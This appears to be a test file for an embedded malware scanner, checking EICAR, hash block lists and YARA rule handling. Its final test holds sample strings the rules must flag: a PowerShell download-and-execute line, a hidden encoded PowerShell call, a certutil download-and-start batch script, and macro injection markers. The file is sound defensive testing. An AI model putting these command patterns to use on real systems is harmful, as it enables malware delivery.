// The embedded scanner as a whole: what it finds, and what becomes of rules that are wrong or slow.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { pathToFileURL } from 'node:url'
import type { Scanner, ScanResult } from '../../ports.ts'
import { type EmbeddedOptions, eicar, openEmbedded } from './index.ts'
import { YaraThread } from './yara.ts'

async function open(t: TestContext, options: Partial<EmbeddedOptions> = {}): Promise<Scanner> {
  const scanner = await openEmbedded({ hashes: [], yara: [], ...options })
  t.after(() => scanner.close())
  return scanner
}

async function scan(scanner: Scanner, content: Uint8Array | string, size = 1000): Promise<ScanResult> {
  const bytes = Buffer.from(content)
  const one = scanner.start({ subject: 'part' })
  for (let at = 0; at < bytes.length; at += size)
    if (!one.write(bytes.subarray(at, at + size))) await one.drained()
  return one.finish()
}

function rules(t: TestContext, ...texts: string[]): string {
  const directory = mkdtempSync(join(tmpdir(), 'postern-rules-'))
  t.after(() => rmSync(directory, { recursive: true }))
  for (const [index, text] of texts.entries()) writeFileSync(join(directory, `${index + 1}.yar`), text)
  return directory
}

const endless = 'rule Endless { condition: filesize > 20 and for any i in (0..999999999): (uint8(i) == 7) }'
const word = 'rule Word { strings: $a = "forbidden" condition: $a }'

test('EICAR is found, the empty content and the text around it are clean', async (t) => {
  const scanner = await open(t)
  const virus = { kind: 'infected', virus: 'Eicar-Test-Signature' }
  assert.deepEqual(await scan(scanner, eicar, 5), virus)
  assert.deepEqual(await scan(scanner, Buffer.concat([Buffer.alloc(5000), eicar])), virus)
  assert.deepEqual(await scan(scanner, ''), { kind: 'clean' })
  assert.deepEqual(await scan(scanner, eicar.subarray(1)), { kind: 'clean' })
})

test('a content on a block list is infected, and the list is named', async (t) => {
  const list = join(rules(t), 'bad-hashes.txt')
  writeFileSync(list, `${createHash('sha256').update('evil').digest('hex')} # seen in May\n`)
  let now = 0
  const scanner = await open(t, { hashes: [list], monotonic: () => now })
  assert.deepEqual(await scan(scanner, 'evil', 1), { kind: 'infected', virus: 'Sha256.bad-hashes.txt' })
  assert.deepEqual(await scan(scanner, 'evil '), { kind: 'clean' })

  writeFileSync(list, `${createHash('sha256').update('also').digest('hex')}\n# one that is new\n`)
  now = 1000
  assert.deepEqual(await scan(scanner, 'also'), { kind: 'infected', virus: 'Sha256.bad-hashes.txt' })
})

test('rules of several files are asked, and the first match is told', async (t) => {
  const directory = rules(t, word, 'rule Other { strings: $a = "wrong" condition: $a }')
  const scanner = await open(t, { yara: [join(directory, '*.yar'), join(directory, '1.yar')] })
  assert.deepEqual(await scan(scanner, 'this is forbidden', 4), { kind: 'infected', virus: 'YARA.Word' })
  assert.deepEqual(await scan(scanner, 'this is wrong'), { kind: 'infected', virus: 'YARA.Other' })
  assert.deepEqual(await scan(scanner, 'forbidden and wrong'), { kind: 'infected', virus: 'YARA.Word' })
  assert.deepEqual(await scan(scanner, 'this is fine'), { kind: 'clean' })
  assert.deepEqual(await scan(scanner, ''), { kind: 'clean' })
})

test('wrong rules are named with file, line and column', async (t) => {
  const directory = rules(t, word, 'rule B {\n  strings: $a = /a(/\n  condition: $a }')
  await assert.rejects(
    openEmbedded({ hashes: [], yara: [join(directory, '*.yar')] }),
    /2\.yar:2:\d+ invalid regular expression: unclosed group/,
  )
  await assert.rejects(
    openEmbedded({ hashes: [], yara: [join(directory, '*.yara')] }),
    /no YARA rules at .*\*\.yara/,
  )
})

test('rules without the library say what to install', async (t) => {
  // From this folder no package is found.
  const directory = rules(t)
  const script = join(directory, 'yara-worker.ts')
  copyFileSync(new URL('./yara-worker.ts', import.meta.url), script)
  writeFileSync(join(directory, 'package.json'), '{ "type": "module" }')
  await assert.rejects(
    YaraThread.open([{ name: 'a.yar', text: word }], pathToFileURL(script)),
    /@virustotal\/yara-x, which is not installed; run npm install/,
  )
})

test('a rule that does not end is an error at the deadline, and the next content is scanned', async (t) => {
  const scanner = await open(t, { yara: [join(rules(t, word, endless), '*.yar')], yaraDeadline: 300 })
  const results = await Promise.all([
    scan(scanner, 'a long text that sets the rule off'),
    scan(scanner, 'forbidden'),
    scan(scanner, 'fine'),
  ])
  assert.ok(results[0]?.kind === 'error' && /longer than 0\.3 s/.test(results[0].reason))
  assert.deepEqual(results.slice(1), [{ kind: 'infected', virus: 'YARA.Word' }, { kind: 'clean' }])
  assert.match(scanner.health().lastError ?? '', /longer than 0\.3 s/)
})

test('what is too large for the rules is said to be so, but EICAR in it is found', async (t) => {
  const scanner = await open(t, { yara: [join(rules(t, word), '*.yar')], yaraLimit: 10_000 })
  assert.deepEqual(await scan(scanner, Buffer.alloc(10_000)), { kind: 'clean' })
  assert.deepEqual(await scan(scanner, Buffer.alloc(10_001)), { kind: 'too-large', limit: 10_000 })
  assert.equal((await scan(scanner, Buffer.concat([Buffer.alloc(10_001), eicar]))).kind, 'infected')
})

test('after closing and after abandoning nothing is clean', async (t) => {
  const scanner = await open(t, { yara: [join(rules(t, word, endless), '*.yar')] })
  const running = scan(scanner, 'a long text that sets the rule off')
  const waiting = scan(scanner, 'fine')
  const abandoned = scanner.start({ subject: 'part' })
  abandoned.abandon()
  assert.equal((await abandoned.finish()).kind, 'error')
  setTimeout(() => scanner.close(), 50)
  for (const result of [await running, await waiting, await scan(scanner, 'fine')])
    assert.equal(result.kind, 'error')
})

const samples: readonly [rule: string, content: string][] = [
  ['PowerShell_Download_And_Run', "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"],
  ['PowerShell_Hidden_Encoded', `cmd /c powershell.exe -NoP -W Hidden -Enc ${'SQBFAFgA'.repeat(8)}`],
  [
    'Script_Host_Download_And_Run',
    'var h = new ActiveXObject("MSXML2.XMLHTTP"); new ActiveXObject("WScript.Shell").Run(f)',
  ],
  [
    'Batch_Download_And_Run',
    '@echo off\r\ncertutil.exe -f -urlcache http://x.example/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe',
  ],
  [
    'Html_Makes_A_File',
    '<html><script>var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download="x";a.click()</script>',
  ],
  ['Macro_Starts_And_Runs', `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribut\0e Document_Open WScript.Shell`],
  ['Macro_Downloads', `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribut\0e URLDownloadToFileA`],
  [
    'Macro_Injects_Code',
    `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribut\0e VirtualAlloc RtlMoveMemory CreateThread`,
  ],
  ['Rtf_Object_Loads', '{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}'],
]
const harmless = [
  'How to use Invoke-WebRequest in PowerShell, a newsletter',
  '<html><script>document.title = atob("eA==")</script>',
  '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 a document without macros, about WScript.Shell and AutoOpen',
  '@echo off\r\nstart notepad.exe',
  '{\\rtf1 Hello}',
]

test('the rules of examples/ find what they are for, and nothing else', async (t) => {
  const folder = new URL('../../../examples/rules/*.yar', import.meta.url)
  const scanner = await open(t, { yara: [folder.pathname] })
  for (const [rule, content] of samples)
    assert.deepEqual(await scan(scanner, Buffer.from(content, 'latin1')), {
      kind: 'infected',
      virus: `YARA.${rule}`,
    })
  for (const content of harmless)
    assert.deepEqual(await scan(scanner, Buffer.from(content, 'latin1')), { kind: 'clean' }, content)
})
